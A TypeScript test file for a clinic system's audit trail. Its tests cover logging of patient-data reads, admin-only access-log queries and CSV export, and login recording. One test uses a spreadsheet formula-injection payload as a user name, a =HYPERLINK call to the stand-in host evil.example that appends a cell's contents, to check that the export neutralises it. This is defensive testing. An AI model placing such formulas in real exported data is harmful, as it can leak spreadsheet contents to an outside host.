import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PASSWORD, startClinic, type Clinic, type TeamFixture } from './support/clinic.ts';
import type { Client } from './support/http.ts';

let env: Clinic;
let sys: Client;
let A: TeamFixture;

beforeAll(async () => {
  [env, A] = await startClinic('Team A');
  sys = env.sysadmin;
});
afterAll(() => env?.stop());

describe('the audit trail', () => {
  it('records each read of patient data with user, patient, care unit, action, time and origin', async () => {
    const mark = await env.system.db.pool.query<{ id: number }>(
      'select coalesce(max(id), 0)::int as id from audit_events',
    );
    await A.nurse.get(`/api/patients/${A.patientId}`);
    await A.nurse.get(`/api/patients/${A.patientId}/readings`);
    await A.nurse.get('/api/patients');
    const rows = await env.system.db.pool.query(
      `select action, actor_user_id, patient_id, team_id, origin, at from audit_events
       where actor_user_id = $1 and id > $2 and action in ('patient.read', 'readings.read', 'patient.list') order by id`,
      [A.nurseId, mark.rows[0]!.id],
    );
    expect(rows.rows.map((r) => r.action)).toEqual(['patient.read', 'readings.read', 'patient.list']);
    for (const row of rows.rows) {
      expect(row).toMatchObject({ actor_user_id: A.nurseId, patient_id: A.patientId, team_id: A.teamId });
      expect(row.origin).toMatch(/127\.0\.0\.1/);
    }
  });

  it('answers "who looked at patient X" in a period, as JSON and as a CSV extract, to the team admin only', async () => {
    await A.nurse.get(`/api/patients/${A.patientId}`);
    const from = new Date(Date.now() - 3_600_000).toISOString();
    const to = new Date(Date.now() + 60_000).toISOString();
    const events = await A.admin.get(`/api/audit?patientId=${A.patientId}&from=${from}&to=${to}`);
    expect(events.status).toBe(200);
    expect(events.body.events).toContainEqual(
      expect.objectContaining({ action: 'patient.read', userId: A.nurseId, teamId: A.teamId }),
    );
    const byUser = await A.admin.get(`/api/audit?userId=${A.nurseId}&from=${from}&to=${to}`);
    expect(byUser.body.events.every((e: { userId: string }) => e.userId === A.nurseId)).toBe(true);
    expect(byUser.body.events.length).toBeGreaterThan(0);
    const csv = await A.admin.get(`/api/patients/${A.patientId}/access-log?format=csv&from=${from}&to=${to}`);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(csv.text.split('\n')[0]).toBe("time,action,outcome,user,email,care unit,origin,reached via,user's teams");
    expect(csv.text).toContain('nurse@team-a.example.se');
    expect((await A.nurse.get(`/api/audit?patientId=${A.patientId}`)).status).toBe(403);
    // Reading the trail is itself in the trail.
    const reads = await env.system.db.pool.query(
      `select 1 from audit_events where action in ('audit.read', 'audit.extract') and actor_user_id = $1`,
      [A.adminId],
    );
    expect(reads.rowCount).toBeGreaterThanOrEqual(3);
  });

  it('neutralises spreadsheet formulas in the CSV extract (a name such as =HYPERLINK(...))', async () => {
    const evil = '=HYPERLINK("https://evil.example/?"&A1,"Öppna")';
    const user = await sys.post('/api/users', { email: 'formula@example.se', name: evil, password: PASSWORD });
    await sys.post(`/api/teams/${A.teamId}/members`, { userId: user.body.id, role: 'nurse' });
    const reader = await env.client().login('formula@example.se', PASSWORD);
    await reader.get(`/api/patients/${A.patientId}`);
    const csv = await A.admin.get(`/api/patients/${A.patientId}/access-log?format=csv`);
    const line = csv.text.split('\n').find((l) => l.includes('formula@example.se'))!;
    expect(line).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Öppna"")"`);
    expect(line.split(',').some((cell) => cell.startsWith('='))).toBe(false);
  });

  it('records logins, failed logins and device pairing', async () => {
    const actions = await env.system.db.pool.query(
      `select action, outcome, count(*)::int as n from audit_events group by 1, 2`,
    );
    const seen = actions.rows.map((r) => `${r.action}:${r.outcome}`);
    expect(seen).toEqual(
      expect.arrayContaining([
        'auth.login:success',
        'device.pair:success',
        'membership.add:success',
        'patient.create:success',
      ]),
    );
    await env.client().post('/api/auth/login', { email: 'nurse@team-a.example.se', password: 'wrong password!!' });
    const failed = await env.system.db.pool.query(
      `select actor_user_id, detail from audit_events where action = 'auth.login' and outcome = 'failure' order by id desc limit 1`,
    );
    expect(failed.rows[0]).toMatchObject({ actor_user_id: A.nurseId, detail: { reason: 'wrong_password' } });
  });
});
